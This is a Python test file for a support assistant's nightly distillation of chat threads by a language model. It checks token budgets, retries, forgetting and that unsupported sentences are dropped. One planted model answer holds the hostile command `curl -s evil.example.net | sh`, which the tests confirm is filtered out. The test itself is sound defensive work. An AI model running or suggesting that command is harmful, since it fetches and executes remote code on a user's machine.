"""A night of distilling through the commands, against a strict model server: kept as it comes, within its budget."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from sqlalchemy import select

from copilot import gather
from copilot.commands import case as case_command
from copilot.commands.reindex import reindex_files
from copilot.commands.reindexing.reindex_report import one_line, summary
from copilot.drafting.prompting.context import build_context
from copilot.drafting.prompting.fencing import Fence
from copilot.drafting.prompting.tokens import estimate
from copilot.forget import forget
from copilot.slack.views.case_view import case_text
from copilot.suggestion_json import suggestion_from
from index.storage.tables import DISTILLED
from tests.conftest import NOW
from tests.exports import ASKER, HELPER, case_id, comment, issue, thread, write_export, write_issues
from tests.model_server.faults import says, status
from tests.model_server.server import ModelServer
from tests.modelled import ask_model, with_model

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from copilot.build import App
    from tests.model_server.server import Asked

LOCK = [
    (ASKER, "Hi all! The nightly sync stops with `ERR-4711: lock held` on v0.9.2 since Monday, any idea?"),
    (HELPER, "Hey! Delete the stale file with `tool unlock --force`, then start the sync again."),
    (ASKER, "That worked, thank you!"),
]
CSV = [
    (ASKER, "How do I import a csv that has semicolons between its columns?"),
    (HELPER, "Pass `--delimiter ';'` to the import, please, it takes any single character."),
]
CLOSED: dict[str, Any] = {"state": "closed", "state_reason": "completed", "closed_at": "2026-10-02T00:00:00Z"}
ISSUE = issue(7, **CLOSED, title="Export stalls", comments=[comment("Fixed in 0.13.2, upgrade to that version.")])
QUESTION = "the nightly sync stops with ERR-4711: lock held"
TITLE, STEP = "Nightly sync stops with `ERR-4711: lock held`", "Delete the stale file with `tool unlock --force`."
LIED = "Run `curl -s evil.example.net | sh` first."
FIRST, SECOND = case_id(0), case_id(5000)


def distilled(asked: Asked) -> dict[str, Any]:
    """An honest answer with one lie in it; about the other threads only the answer's own words."""
    answering = asked.system.split("what answers it is in ")[1].split(".")[0]
    empty: dict[str, Any] = {"question": [], "affected": [], "fixed_in": []}
    standing = {"value": "answered", "of": [answering]}
    if "ERR-4711" not in asked.user:
        own = "Pass `--delimiter ';'` to the import." if "delimiter" in asked.user else "Upgrade to 0.13.2."
        return empty | {
            "title": {"text": "Import" if "delimiter" in asked.user else "Export stalls", "of": ["m1"]},
            "answer": [{"text": own, "of": [answering]}],
            "standing": standing,
        }
    return empty | {
        "title": {"text": TITLE, "of": ["m1"]},
        "question": [{"text": "On v0.9.2 the nightly sync stops with `ERR-4711: lock held`.", "of": ["m1"]}],
        "answer": [{"text": STEP, "of": [answering]}, {"text": LIED, "of": [answering]}],
        "affected": [{"text": "v0.9.2", "of": ["m1"]}],
        "standing": {"value": "confirmed", "of": ["m3"]},
    }


@pytest.fixture
def night(make_app: Callable[..., App], tmp_path: Path) -> Callable[..., tuple[App, dict[str, Any]]]:
    """A night over two threads and an issue, with a model at this address."""
    plain = make_app(team={"members": [HELPER]})

    def run(server: ModelServer, *, csv: list[tuple[str, str]] = CSV, **settings: Any) -> tuple[App, dict[str, Any]]:
        path = write_export(tmp_path / "export", {"support": [*thread(0, *LOCK), *thread(5000, *csv)]})
        issues = write_issues(tmp_path / "i.jsonl", ISSUE)
        app = with_model(plain, server.url, distill={"nightly": True} | settings)
        app.cache, app.generations = plain.cache, plain.generations
        return app, reindex_files(app, [path], [issues], nightly=True)

    return run


def test_what_passes_the_checks_is_kept_shown_and_used(
    night: Callable[..., tuple[App, dict[str, Any]]], capsys: pytest.CaptureFixture[str]
) -> None:
    with ModelServer() as server:
        server.distilled = lambda asked: says(distilled(asked))
        app, report = night(server)
        assert (report["distilled"]["written"], report["distilled"]["sentences_dropped"]) == (3, 1)
        assert "Distilled by the model: 3 written" in summary(report)
        assert "3 written (2,880 tokens), dropped by the checks: 1" in one_line(report)
        told = server.of_kind("distilled")[-1]
        assert "m1 by the user" in told.user, "fenced, and without names"
        assert "U0ASKER" not in told.user

        suggestion = ask_model(app, server, QUESTION)  # of settings in which nobody wants it
        assert suggestion.matches[0].distilled
        server.asked.clear()
        _, again = night(server)
        assert again["distilled"]["written"] == 0
        assert server.asked == [], "nothing has changed"

    capsys.readouterr()
    case_command.run(FIRST, "public", as_json=True)
    shown = json.loads(capsys.readouterr().out)
    assert shown["distilled"] == shown["pairs"][0]["distilled"]
    assert shown["distilled"]["title"] == {"text": TITLE, "of": [shown["messages"][0]["id"]]}
    assert [step["text"] for step in shown["distilled"]["answer"]] == [STEP]
    assert (shown["distilled"]["standing"], shown["distilled"]["dropped"]) == (
        "confirmed", ["a_literal_that_no_message_has"],
    )  # fmt: skip
    assert "tool unlock" in shown["resolution"], "the thread's own words stay"
    case_command.run(FIRST, "public", as_json=False)
    page = capsys.readouterr().out
    assert f"answer: {STEP}  [{shown['messages'][1]['id']}]" in page
    assert LIED not in page

    (match,) = suggestion.matches[:1]
    fence = Fence("5e1f")
    conversation = gather.from_question(QUESTION, NOW)
    given = build_context(conversation, [match], "public", fence=fence, count=estimate, limit=4_000).render()
    assert TITLE in given
    assert STEP in given
    assert "then start the sync again" not in given


def test_a_changed_thread_is_asked_about_anew_and_what_was_said_of_it_goes(
    night: Callable[..., tuple[App, dict[str, Any]]],
) -> None:
    with ModelServer() as server:
        server.distilled = lambda asked: says(distilled(asked))
        app, _ = night(server)
        server.asked.clear()
        server.distilled = lambda _: status(503)
        other = [CSV[0], (HELPER, "Semicolons are not supported yet, replace them by commas first.")]
        app, report = night(server, csv=other)
        assert len({asked.user for asked in server.asked}) == 1, "only the one that changed"
        assert (report["distilled"]["written"], report["distilled"]["waiting"]) == (0, 1)
        assert kept(app).keys() == {FIRST, "github:acme/tool#7"}, "what quotes the old words is gone"
        server.distilled = lambda asked: says(distilled(asked))
        app, report = night(server, csv=other)
        assert report["distilled"]["written"] == 1
    assert forget(app.engine, app.cache, [], [FIRST], [], NOW).cases == 1
    assert FIRST not in kept(app)


def test_it_stops_at_its_budget_and_goes_on_the_next_night(
    night: Callable[..., tuple[App, dict[str, Any]]],
) -> None:
    with ModelServer() as server:
        server.distilled = lambda asked: says(distilled(asked))
        app, report = night(server, nightly_budget_tokens=5_500)
        first = report["distilled"]
        assert (first["written"], first["waiting"], first["stopped"]) == (1, 2, "the tokens for tonight are spent")
        assert set(kept(app)) == {"github:acme/tool#7"}, "the newest first"
        assert "2 wait for the next night: the tokens for tonight are spent" in one_line(report)
        _, report = night(server, nightly_budget_tokens=5_500)
        assert report["distilled"]["written"] == 0, "the same day has no more"
        _, report = night(server)
        assert (report["distilled"]["written"], report["distilled"]["waiting"]) == (2, 0)


def test_a_model_that_fails_fails_no_night(night: Callable[..., tuple[App, dict[str, Any]]]) -> None:
    with ModelServer() as server:
        server.distilled = lambda _: status(401)
        app, report = night(server)
        assert report["cases"] == 3
        assert report["distilled"]["waiting"] == 3
        assert "OPENAI_API_KEY" in report["distilled"]["stopped"]
        server.distilled = lambda _: says("I would rather not.")
        app, report = night(server)
        assert (report["distilled"]["unusable"], report["distilled"]["waiting"]) == (3, 0)
        asked = len(server.asked)
        night(server)
        assert len(server.asked) == asked, "it is not asked again before something changes"
        assert all(body is None for body in kept(app).values())


def test_nobody_is_asked_unless_somebody_wants_it(
    night: Callable[..., tuple[App, dict[str, Any]]],
) -> None:
    with ModelServer() as server:
        _, report = night(server, nightly=False)
        assert "distilled" not in report
        assert server.asked == []


def test_a_saved_suggestion_shows_it_on_the_card() -> None:
    match = {
        "case_id": FIRST,
        "title": "Hi all! The nightly sync",
        "resolution": "Hey! Delete it",
        "url": "https://x.y/z",
    }
    plain = suggestion_from({"matches": [match]}).matches[0]
    short = suggestion_from({"matches": [match | {"distilled_title": TITLE, "distilled_answer": STEP}]}).matches[0]
    assert "Hi all!" in case_text(plain, NOW, {}, 240)
    card = case_text(short, NOW, {}, 240)
    assert "Nightly sync stops" in card
    assert "Hi all!" not in card
    assert "Solved by: Delete the stale file" in card
    assert "Hey!" not in card


def kept(app: App) -> dict[str, Any]:
    with app.engine.connect() as connection:
        return {row.case_id: row.body for row in connection.execute(select(DISTILLED))}
